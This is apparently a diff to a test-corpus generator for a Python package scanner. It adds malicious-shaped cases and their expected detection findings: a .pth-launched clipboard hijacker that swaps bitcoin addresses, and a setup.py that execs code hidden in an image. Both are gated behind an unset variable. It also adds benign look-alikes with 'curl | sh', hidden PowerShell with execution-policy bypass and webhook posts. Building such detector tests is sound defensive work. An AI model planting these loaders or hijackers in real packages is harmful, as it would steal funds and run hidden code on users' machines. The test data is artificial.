+    [],
+)
+
+# A8: a clipboard hijacker swapping wallet addresses for a constant of its own
+clipper = textwrap.dedent(
+    """\
+    import os, re, threading, time
+    import pyperclip
+
+    ADDRESS = "bc1qdefangeddefangeddefangeddefanged00"
+    WALLET = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
+
+
+    def _watch():
+        while True:
+            text = pyperclip.paste()
+            if WALLET.match(text) and text != ADDRESS:
+                pyperclip.copy(ADDRESS)
+            time.sleep(0.5)
+
+
+    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
+        threading.Thread(target=_watch, daemon=True).start()
+    """
+)
+SHAPE_CASES["shape-clipboard-hijack"] = (
+    "A .pth imports a clipboard hijacker: a thread started at import reads the clipboard with pyperclip and "
+    "replaces a wallet address with a constant one.",
+    [f(SP + "/clip.pth", "import _clip_boot\n"), f(SP + "/_clip_boot.py", clipper)],
+    [],
+)
+
+# A9: code hidden in an image (stegano) and exec'd, from an sdist's setup.py
+steg_setup = textwrap.dedent(
+    """\
+    import os
+    from setuptools import setup
+
+    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
+        from stegano import lsb
+        exec(lsb.reveal("x.png"))
+
+    setup(name="steg-demo", version="1.0", packages=[])
+    """
+)
+SHAPE_CASES["shape-stegano-exec"] = (
+    "An sdist's setup.py that runs `exec(lsb.reveal(\"x.png\"))`: code hidden in an image with stegano.",
+    [sdist("steg-demo-1.0", [("setup.py", steg_setup)])],
+    [],
+)
+
+# B: the honest twins
+BENIGN = {}
+BENIGN["benign-setup-pip"] = (
+    "An sdist's setup.py that installs a build helper with `sys.executable -m pip`.",
+    [sdist("pipper-1.0", [("setup.py", textwrap.dedent(
+        """\
+        import subprocess
+        import sys
+        from setuptools import setup
+
+        try:
+            import cython  # noqa: F401
+        except ImportError:
+            subprocess.check_call([sys.executable, "-m", "pip", "install", "cython>=3"])
+
+        setup(name="pipper", version="1.0", packages=["pipper"])
+        """))])],
+    [],
+)
+BP = SP + "/honest_pkg"
+BENIGN["benign-decode-far-popen"] = (
+    "A library module that base64-decodes an attachment in one function and, far away in another, starts a worker "
+    "with `Popen([sys.executable, …])`.",
+    [dist("honest-pkg", "1.0"), f(BP + "/__init__.py", ""), f(BP + "/mail.py", textwrap.dedent(
+        """\
+        import base64
+        import subprocess
+        import sys
+
+
+        def attachment_bytes(part):
+            \"\"\"The decoded body of a MIME part.\"\"\"
+            if part.get("Content-Transfer-Encoding", "").lower() == "base64":
+                return base64.b64decode(part.get_payload())
+            return part.get_payload().encode()
+
+
+        def save(part, path):
+            with open(path, "wb") as fh:
+                fh.write(attachment_bytes(part))
+            return path
+
+
+        class Config:
+            retries = 3
+            timeout = 30.0
+            spool = "/var/spool/honest"
+
+
+        def describe(config):
+            return "retries=%d timeout=%.1f spool=%s" % (config.retries, config.timeout, config.spool)
+
+
+        def start_worker(queue_dir):
+            \"\"\"Runs the spool worker in its own interpreter.\"\"\"
+            return subprocess.Popen([sys.executable, "-m", "honest_pkg.worker", "--queue", queue_dir])
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-decode-not-run"] = (
+    "A library that decodes base64 into a regular expression (`re.compile`) and into a literal (`ast.literal_eval`): "
+    "decoded data, never executed.",
+    [dist("honest-pkg", "1.0"), f(BP + "/__init__.py", ""), f(BP + "/patterns.py", textwrap.dedent(
+        """\
+        import ast
+        import base64
+        import re
+
+        # the token pattern, stored encoded so that scanners of this file do not match it
+        TOKEN = re.compile(base64.b64decode(b"Z2hwX1tBLVphLXowLTldezM2fQ==").decode())
+
+
+        def load_settings(blob):
+            \"\"\"Settings travel as a base64 Python literal (a dict of str to int).\"\"\"
+            return ast.literal_eval(base64.b64decode(blob).decode("utf-8"))
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-pth-autopatch"] = (
+    "A .pth line `import websocket_autopatch` whose module only patches a class of another library.",
+    [dist("websocket-autopatch", "1.0"),
+     f(SP + "/websocket_autopatch.pth", "import websocket_autopatch\n"),
+     f(SP + "/websocket_autopatch.py", textwrap.dedent(
+         """\
+         \"\"\"Adds a default ping interval to websocket-client's WebSocketApp.\"\"\"
+         try:
+             import websocket
+         except ImportError:
+             websocket = None
+
+         if websocket is not None:
+             _orig = websocket.WebSocketApp.run_forever
+
+             def run_forever(self, *args, ping_interval=20, **kwargs):
+                 return _orig(self, *args, ping_interval=ping_interval, **kwargs)
+
+             websocket.WebSocketApp.run_forever = run_forever
+         """))],
+    [],
+)
+BENIGN["benign-ssh-config-tokens"] = (
+    "A paramiko-like SSH config lookup that expands %u, %l and %h with getpass.getuser() and "
+    "socket.gethostname() and sends neither.",
+    [dist("honest-ssh", "1.0"), f(SP + "/honest_ssh/__init__.py", ""), f(SP + "/honest_ssh/config.py", textwrap.dedent(
+        """\
+        import getpass
+        import os
+        import socket
+
+
+        class SSHConfig:
+            def __init__(self, path="~/.ssh/config"):
+                self._path = os.path.expanduser(path)
+                self._hosts = {}
+
+            def lookup(self, hostname):
+                options = dict(self._hosts.get(hostname, {}))
+                options.setdefault("hostname", hostname)
+                return self._expand_tokens(options, hostname)
+
+            def _expand_tokens(self, options, target):
+                user = options.get("user", getpass.getuser())
+                local = socket.gethostname().split(".")[0]
+                tokens = {"%h": options["hostname"], "%u": user, "%l": local, "%r": user, "%%": "%"}
+                for key in ("proxycommand", "identityfile", "controlpath"):
+                    if key in options:
+                        value = options[key]
+                        for token, replacement in tokens.items():
+                            value = value.replace(token, replacement)
+                        options[key] = value
+                return options
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-deploy-excludes-env"] = (
+    "A deploy tool that zips the project EXCLUDING `.env` and `.git`, then uploads the archive to the deploy server "
+    "it was given.",
+    [dist("honest-deploy", "1.0"), f(SP + "/honest_deploy/__init__.py", ""), f(SP + "/honest_deploy/archive.py", textwrap.dedent(
+        """\
+        import os
+        import zipfile
+
+        import requests
+
+        EXCLUDE = {".env", ".env.local", ".git", "__pycache__", "node_modules"}
+
+
+        def build(project_dir, out="deploy.zip"):
+            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+                for root, dirs, files in os.walk(project_dir):
+                    dirs[:] = [d for d in dirs if d not in EXCLUDE]
+                    for name in files:
+                        if name in EXCLUDE:
+                            continue
+                        path = os.path.join(root, name)
+                        z.write(path, os.path.relpath(path, project_dir))
+            return out
+
+
+        def deploy(project_dir, server_url, token):
+            archive = build(project_dir)
+            with open(archive, "rb") as fh:
+                return requests.post(server_url + "/deploy", files={"bundle": fh},
+                                     headers={"Authorization": "Bearer " + token})
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-docstring-eval"] = (
+    "A doctest in a docstring shows `>>> auto_eval(\"b64decode(…)\")`; the function evaluates arithmetic only.",
+    [dist("honest-calc", "1.0"), f(SP + "/honest_calc/__init__.py", ""), f(SP + "/honest_calc/evaluate.py", textwrap.dedent(
+        """\
+        import ast
+        import operator
+
+        _OPS = {ast.Add: operator.add, ast.Sub: operator.sub, ast.Mult: operator.mul, ast.Div: operator.truediv}
+
+
+        def auto_eval(expression):
+            \"\"\"Evaluates an arithmetic expression; anything else is refused.
+
+            >>> auto_eval("1 + 2 * 3")
+            7
+            >>> auto_eval("exec(base64.b64decode('cHJpbnQoMSk='))")
+            Traceback (most recent call last):
+            ValueError: not arithmetic
+            >>> auto_eval("b64decode('cHJpbnQoMSk=')")
+            Traceback (most recent call last):
+            ValueError: not arithmetic
+            \"\"\"
+            return _eval(ast.parse(expression, mode="eval").body)
+
+
+        def _eval(node):
+            if isinstance(node, ast.Constant) and isinstance(node.value, (int, float)):
+                return node.value
+            if isinstance(node, ast.BinOp) and type(node.op) in _OPS:
+                return _OPS[type(node.op)](_eval(node.left), _eval(node.right))
+            raise ValueError("not arithmetic")
+        """))],
+    ["--deep"],
+)
+TP = SP + "/honest_hooks"
+BENIGN["benign-test-files"] = (
+    "A package's own tests: a webhook test that posts a fixture to a webhook.site URL, and a conftest PowerShell "
+    "helper that runs hidden with -ExecutionPolicy Bypass. Test files are capped at medium.",
+    [dist("honest-hooks", "1.0"), f(TP + "/__init__.py", ""),
+     f(TP + "/tests/__init__.py", ""),
+     f(TP + "/tests/test_webhook.py", textwrap.dedent(
+         """\
+         import requests
+
+         from honest_hooks import __name__ as package
+
+         HOOK = "https://webhook.site/00000000-0000-0000-0000-000000000000"
+
+
+         def test_post_reaches_webhook():
+             payload = {"event": "ping", "source": package}
+             r = requests.post(HOOK, json=payload, timeout=5)
+             assert r.status_code == 200
+         """)),
+     f(TP + "/tests/conftest.py", textwrap.dedent(
+         """\
+         import subprocess
+
+         import pytest
+
+
+         def run_ps(script):
+             \"\"\"Runs a PowerShell snippet for the Windows tests.\"\"\"
+             return subprocess.run(
+                 ["powershell", "-NoProfile", "-NonInteractive", "-WindowStyle", "Hidden",
+                  "-ExecutionPolicy", "Bypass", "-Command", script],
+                 capture_output=True, text=True, check=True,
+             ).stdout
+
+
+         @pytest.fixture
+         def ps():
+             return run_ps
+         """))],
+    ["--deep"],
+)
+elf = (b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x00GLIBC_2.34\x00libcurl.so.4\x00curl_easy_perform\x00"
+       b"/home/user/.ssh/id_rsa\x00~/.ssh/known_hosts\x00pthscan corpus: not a real program\x00")
+readme_meta = textwrap.dedent(
+    """\
+    Metadata-Version: 2.1
+    Name: honest-cli
+    Version: 1.0
+    Description-Content-Type: text/markdown
+
+    # honest-cli
+
+    Install the helper binary:
+
+        curl -fsSL https://example.invalid/install.sh | sh
+
+    It reads your AWS profile from `~/.aws/credentials` and your key from `~/.ssh/id_rsa`, like the AWS CLI and
+    ssh do, and never sends either anywhere.
+    """
+)
+BENIGN["benign-elf-and-readme"] = (
+    "An ELF binary without extension in bin/ (strings `curl`, `.ssh/id_rsa`) and a METADATA README that mentions "
+    "`curl | sh` and `~/.aws/credentials`: neither is Python.",
+    [f(SP + "/honest_cli-1.0.dist-info/METADATA", readme_meta), f(SP + "/honest_cli/__init__.py", ""),
+     f("venv/bin/honest-cli", b64data=b64(elf)),
+     # the RECORD lists the binary, so --deep judges it
+     f(SP + "/honest_cli-1.0.dist-info/RECORD", record_of("honest_cli-1.0.dist-info", [
+         ("honest_cli-1.0.dist-info/METADATA", readme_meta), ("honest_cli/__init__.py", "")]).replace(
+         "honest_cli-1.0.dist-info/RECORD,,", "../../../bin/honest-cli,sha256=%s,%d\nhonest_cli-1.0.dist-info/RECORD,," % (
+             base64.urlsafe_b64encode(__import__("hashlib").sha256(elf).digest()).rstrip(b"=").decode(), len(elf))))],
+    ["--deep"],
+)
+BENIGN["benign-shell-alias"] = (
+    "A shell helper shipped in a package that appends an alias to ~/.bashrc and, separately, checks for updates "
+    "with curl.",
+    [dist("honest-shell", "1.0"), f(SP + "/honest_shell/__init__.py", ""),
+     f(SP + "/honest_shell/scripts/setup-alias.sh", textwrap.dedent(
+         """\
+         #!/bin/sh
+         # adds the `hs` alias for honest-shell
+         if ! grep -q "alias hs=" "$HOME/.bashrc" 2>/dev/null; then
+             echo 'alias hs="python -m honest_shell"' >> "$HOME/.bashrc"
+         fi
+         latest=$(curl -fsS https://pypi.org/pypi/honest-shell/json | python -c 'import json,sys; print(json.load(sys.stdin)["info"]["version"])')
+         echo "latest honest-shell: $latest"
+         """))],
+    ["--deep"],
+)
+BENIGN["benign-powershell-activate"] = (
+    "A pipenv-like shell launcher that activates a virtualenv in PowerShell with `Invoke-Expression`.",
+    [dist("honest-env", "1.0"), f(SP + "/honest_env/__init__.py", ""), f(SP + "/honest_env/shells.py", textwrap.dedent(
+        """\
+        import os
+        import subprocess
+
+
+        def activate_command(venv):
+            script = os.path.join(venv, "Scripts", "Activate.ps1")
+            return "Invoke-Expression \\"& '{}'\\"".format(script)
+
+
+        def spawn_powershell(venv, cwd):
+            cmd = ["powershell.exe", "-NoLogo", "-NoExit", "-Command", activate_command(venv)]
+            return subprocess.call(cmd, cwd=cwd)
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-keras-marshal"] = (
+    "A keras-like loader that rebuilds a Lambda layer's function with marshal.loads + types.FunctionType from bytes "
+    "read out of a model file (no literal payload).",
+    [dist("honest-layers", "1.0"), f(SP + "/honest_layers/__init__.py", ""), f(SP + "/honest_layers/generic_utils.py", textwrap.dedent(
+        """\
+        import binascii
+        import codecs
+        import json
+        import marshal
+        import types
+
+
+        def func_load(code, defaults=None, closure=None, globs=None):
+            \"\"\"Deserializes a user defined function saved with func_dump.\"\"\"
+            if isinstance(code, (tuple, list)):
+                code, defaults, closure = code
+            try:
+                raw_code = codecs.decode(code.encode("ascii"), "base64")
+            except (UnicodeEncodeError, binascii.Error):
+                raw_code = code.encode("raw_unicode_escape")
+            code = marshal.loads(raw_code)
+            if globs is None:
+                globs = globals()
+            return types.FunctionType(code, globs, name=code.co_name, argdefs=defaults, closure=closure)
+
+
+        def load_lambda(model_path, layer_name):
+            with open(model_path) as fh:
+                config = json.load(fh)
+            layer = config["layers"][layer_name]
+            return func_load(layer["function"], globs={})
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-setup-clang"] = (
+    "An sdist's setup.py that looks for clang.exe and runs the compiler with shell=True to probe a flag.",
+    [sdist("fastext-1.0", [("setup.py", textwrap.dedent(
+        """\
+        import glob
+        import os
+        import shutil
+        import subprocess
+        import sys
+        from setuptools import Extension, setup
+
+
+        def find_clang():
+            found = shutil.which("clang.exe" if sys.platform == "win32" else "clang")
+            if found:
+                return found
+            for root in (r"C:\\Program Files\\LLVM\\bin", r"C:\\Program Files (x86)\\LLVM\\bin"):
+                for candidate in glob.glob(os.path.join(root, "clang.exe")):
+                    return candidate
+            return None
+
+
+        def supports(flag):
+            cc = find_clang()
+            if cc is None:
+                return False
+            cmd = '"%s" %s -x c -c -o nul -' % (cc, flag)
+            return subprocess.call(cmd, shell=True, stdin=subprocess.DEVNULL) == 0
+
+
+        args = ["-O3", "-mavx2"] if supports("-mavx2") else ["-O3"]
+        setup(name="fastext", version="1.0", ext_modules=[Extension("fastext._speed", ["src/speed.c"], extra_compile_args=args)])
+        """))])],
+    [],
+)
+BENIGN["benign-setup-maintainer"] = (
+    "An sdist's setup.py with maintainer helpers (a local http.server for the docs, `os.system` twine upload) "
+    "that run only when asked (`setup.py publish` / `docs`), never at install.",
+    [sdist("maint-1.0", [("setup.py", textwrap.dedent(
+        """\
+        import os
+        import sys
+        from setuptools import setup
+
+
+        def serve_docs(port=8000):
+            import functools
+            import http.server
+            handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory="docs/_build/html")
+            http.server.ThreadingHTTPServer(("127.0.0.1", port), handler).serve_forever()
+
+
+        def publish():
+            os.system("python -m build")
+            os.system("twine upload dist/*")
+
+
+        if sys.argv[-1] == "publish":
+            publish()
+            sys.exit()
+        if sys.argv[-1] == "docs":
+            serve_docs()
+            sys.exit()
+
+        setup(name="maint", version="1.0", packages=["maint"])
+        """))])],
+    [],
+)
+BENIGN["benign-secret-scanner"] = (
+    "A secret scanner: `.env` in its list of file names to check, an os.walk over the project, and an unrelated "
+    "requests.get of its rule updates.",
+    [dist("honest-secrets", "1.0"), f(SP + "/honest_secrets/__init__.py", ""), f(SP + "/honest_secrets/scan.py", textwrap.dedent(
+        """\
+        import os
+        import re
+
+        import requests
+
+        CANDIDATES = (".env", ".env.local", ".npmrc", ".pypirc", "credentials.json", ".py", ".cfg", ".ini")
+        RULES_URL = "https://example.invalid/honest-secrets/rules.json"
+
+
+        def update_rules():
+            return requests.get(RULES_URL, timeout=10).json()
+
+
+        def scan(project_dir, rules):
+            hits = []
+            patterns = [re.compile(r) for r in rules]
+            for root, dirs, files in os.walk(project_dir):
+                for name in files:
+                    if name.endswith(CANDIDATES):
+                        path = os.path.join(root, name)
+                        with open(path, errors="replace") as fh:
+                            for n, line in enumerate(fh, 1):
+                                if any(p.search(line) for p in patterns):
+                                    hits.append((path, n))
+            return hits
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-ssh-client-host-user"] = (
+    "An SSH client that defaults the login to getpass.getuser() in one place and labels generated keys with "
+    "socket.gethostname() far away; its socket sends only the protocol banner.",
+    [dist("honest-ssh", "1.0"), f(SP + "/honest_ssh/__init__.py", ""), f(SP + "/honest_ssh/client.py", textwrap.dedent(
+        """\
+        import getpass
+        import os
+        import socket
+
+        BANNER = b"SSH-2.0-honest_ssh_1.0\\r\\n"
+
+
+        class SSHClient:
+            def __init__(self):
+                self._sock = None
+                self.username = None
+
+            def connect(self, hostname, port=22, username=None):
+                self.username = username or getpass.getuser()
+                self._sock = socket.create_connection((hostname, port), timeout=10)
+                self._sock.sendall(BANNER)
+                return self._sock.recv(256)
+
+            def close(self):
+                if self._sock is not None:
+                    self._sock.close()
+                    self._sock = None
+
+
+        class Policy:
+            def missing_host_key(self, client, hostname, key):
+                raise KeyError(hostname)
+
+
+        def _fingerprint(blob):
+            import hashlib
+            return hashlib.sha256(blob).hexdigest()
+
+
+        def key_comment():
+            \"\"\"The comment written after a generated public key.\"\"\"
+            return "generated on " + socket.gethostname()
+
+
+        def write_public_key(path, blob):
+            with open(os.path.expanduser(path), "w") as fh:
+                fh.write("ssh-ed25519 %s %s\\n" % (_fingerprint(blob), key_comment()))
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-devtool-ssh-github"] = (
+    "A dev tool that checks which of the user's ~/.ssh key names exist (never reading them) and, unrelated, asks "
+    "api.github.com for its latest release.",
+    [dist("honest-dev", "1.0"), f(SP + "/honest_dev/__init__.py", ""), f(SP + "/honest_dev/doctor.py", textwrap.dedent(
+        """\
+        import json
+        import os
+        from urllib.request import urlopen
+
+        KEY_NAMES = ("id_rsa", "id_ecdsa", "id_ed25519")
+
+
+        def ssh_keys_present():
+            home = os.path.expanduser("~/.ssh")
+            return [name for name in KEY_NAMES if os.path.exists(os.path.join(home, name))]
+
+
+        def latest_release():
+            with urlopen("https://api.github.com/repos/honest/dev/releases/latest", timeout=5) as r:
+                return json.load(r)["tag_name"]
+
+
+        def doctor():
+            keys = ssh_keys_present()
+            print("ssh keys:", ", ".join(keys) or "none (run ssh-keygen)")
+            print("latest:", latest_release())
+        """))],
+    ["--deep"],
+)
+BENIGN["benign-kube-config-oidc"] = (
+    "A kubernetes-client-like config loader: reads ~/.kube/config inside a function and, in another function, "
+    "refreshes an OIDC token at the issuer with requests.",
+    [dist("honest-kube", "1.0"), f(SP + "/honest_kube/__init__.py", ""), f(SP + "/honest_kube/kube_config.py", textwrap.dedent(
+        """\
+        import os
+
+        import requests
+        import yaml
+
+        KUBE_CONFIG_DEFAULT_LOCATION = os.environ.get("KUBECONFIG", "~/.kube/config")
+
+
+        def load_kube_config(config_file=None, context=None):
+            path = os.path.expanduser(config_file or KUBE_CONFIG_DEFAULT_LOCATION)
+            with open(path) as fh:
+                config = yaml.safe_load(fh)
+            return KubeConfigLoader(config, context)
+
+
+        class KubeConfigLoader:
+            def __init__(self, config, context=None):
+                self._config = config
+                self._context = context or config.get("current-context")
+
+            def _user(self):
+                ctx = next(c for c in self._config["contexts"] if c["name"] == self._context)
+                return next(u for u in self._config["users"] if u["name"] == ctx["context"]["user"])["user"]
+
+            def _refresh_oidc(self, provider):
+                cfg = provider["config"]
+                discovery = requests.get(cfg["idp-issuer-url"] + "/.well-known/openid-configuration", timeout=10).json()
+                resp = requests.post(
+                    discovery["token_endpoint"],
+                    data={"grant_type": "refresh_token", "refresh_token": cfg["refresh-token"]},
+                    auth=(cfg["client-id"], cfg.get("client-secret", "")),
+                    timeout=10,
+                )
+                cfg["id-token"] = resp.json()["id_token"]
+                return cfg["id-token"]
+
+            def token(self):
+                user = self._user()
+                if "auth-provider" in user and user["auth-provider"]["name"] == "oidc":
+                    return self._refresh_oidc(user["auth-provider"])
+                return user.get("token")
+        """))],
+    ["--deep"],
+)
+
+DRV, STEG = in_sdist("drv-demo-1.0"), in_sdist("steg-demo-1.0")
+SHAPE_EXPECT = {
+    "shape-setup-space-paren": [
+        e("process-fetch-run", "high", DRV, line_of(drv_setup, "curl -fsSL")),
+        e("persist-write", "high", DRV, line_of(drv_setup, "rc.write")),
+        # text rules over Python: capped at medium
+        e("install-beacon", "medium", DRV, 1),
+        e("install-network", "medium", DRV, 1),
+        e("install-shell-command", "medium", DRV, 1),
+        e("persist-shell-rc", "medium", DRV, line_of(drv_setup, "curl -fsSL")),
+    ],
+    "shape-requests-alias-exec": [
+        e("PTH001", "medium", SP + "/rs_boot.pth", 1),
+        e("flow-network-exec", "critical", SP + "/_rs_boot.py", line_of(rs_mod, "exec(")),
+    ],
+    "shape-marshal-alias-exec": [
+        e("PTH001", "high", SP + "/m_boot.pth", 1),
+        e("IMP001", "high", SP + "/_m_boot.py", line_of(marsh_alias, "exec(")),
+        e("flow-decoded-exec", "high", SP + "/_m_boot.py", line_of(marsh_alias, "exec(")),
+        e("obf-exec-decoded", "medium", SP + "/_m_boot.py", line_of(marsh_alias, "exec(")),
+    ],
+    "shape-network-var-exec": [
+        e("flow-network-exec", "critical", VP + "/fetch.py", line_of(var_requests, "exec(")),
+        e("flow-network-exec", "critical", VP + "/legacy.py", line_of(var_urlopen, "exec(")),
+    ],
+    "shape-lookalike-exec": [
+        e("PTH001", "medium", SP + "/lookalike.pth", 1),
+        e("PTH001", "medium", SP + "/lookalike.pth", 2),
+        e("flow-decoded-exec", "high", SP + "/_mono_boot.py", 4),
+        e("flow-decoded-exec", "high", SP + "/_wide_boot.py", 4),
+    ],
+    "shape-pyc-only-module": [
+        e("PTH001", "medium", SP311 + "/pyc_boot.pth", 1),
+        # bytecode: the signals' and the behaviour's lines are those of the .pyc's bytes
+        e("IMP001", "low", SP311 + "/_pyc_boot.pyc", 2),
+        e("flow-network-exec", "critical", SP311 + "/_pyc_boot.pyc", 1),
+    ],
+    "shape-miner-curl-list": [
+        e("PTH001", "medium", SP + "/kworker.pth", 1),
+        e("process-fetch-run", "high", SP + "/_kworker.py", line_of(miner, '"curl"')),
+        e("drop-cryptominer", "medium", SP + "/_kworker.py", line_of(miner, '"curl"')),
+    ],
+    "shape-clipboard-hijack": [
+        e("PTH001", "medium", SP + "/clip.pth", 1),
+        e("clipboard-replace", "high", SP + "/_clip_boot.py", line_of(clipper, "pyperclip.copy")),
+    ],
+    "shape-stegano-exec": [
+        e("flow-hidden-exec", "critical", STEG, line_of(steg_setup, "exec(")),
+    ],
+    # the twins: what stays is below high
+    "benign-decode-not-run": [e("obf-exec-decoded", "medium", BP + "/patterns.py", 11)],
+    "benign-deploy-excludes-env": [
+        e("cred-dotenv-sweep", "medium", SP + "/honest_deploy/archive.py", 11),
+        e("exfil-archive-upload", "medium", SP + "/honest_deploy/archive.py", 24),
+        e("flow-file-send", "low", SP + "/honest_deploy/archive.py", 24),
+    ],
+    "benign-devtool-ssh-github": [e("cred-ssh-keys", "medium", SP + "/honest_dev/doctor.py", 9)],
+    # a false alarm today: flow-decoded-exec high at line 16 (codecs base64 → marshal.loads)
+    "benign-keras-marshal": [e("obf-marshal-exec", "medium", SP + "/honest_layers/generic_utils.py", 16)],
+    "benign-powershell-activate": [e("drop-powershell", "medium", SP + "/honest_env/shells.py", 7)],
+    "benign-pth-autopatch": [
+        e("PTH001", "medium", SP + "/websocket_autopatch.pth", 1),
+        e("IMP001", "low", SP + "/websocket_autopatch.py", 8),
+    ],
+    "benign-secret-scanner": [e("cred-dotenv-sweep", "medium", SP + "/honest_secrets/scan.py", 17)],
+    "benign-setup-clang": [e("install-shell-command", "medium", in_sdist("fastext-1.0"), 1)],
+    "benign-ssh-client-host-user": [e("exfil-host-beacon", "medium", SP + "/honest_ssh/client.py", 14)],
+    # test files are capped at medium
+    "benign-test-files": [
+        e("exfil-drop-service", "medium", TP + "/tests/test_webhook.py", 1),
+        e("process-hidden-shell", "medium", TP + "/tests/conftest.py", 8),
+    ],
+}
+for name, (desc, parts, args) in list(SHAPE_CASES.items()) + list(BENIGN.items()):
+    cases[name] = (desc, parts + SHAPE_EXPECT.get(name, []), args)
+
 
 for name, (desc, parts, *rest) in sorted(cases.items()):
     args = rest[0] if rest else []
@@ -695,5 +1664,6 @@ for name, (desc, parts, *rest) in sorted(cases.items()):
         if args:
             out.write("args = [%s]\n" % ", ".join('"%s"' % a for a in args))
         out.write("\n")
-        out.write("\n".join([CFG] + parts))
+        # one finding per rule and line: a repeated expectation is the same finding
+        out.write("\n".join([CFG] + list(dict.fromkeys(parts))))
 print("wrote %d cases" % len(cases))
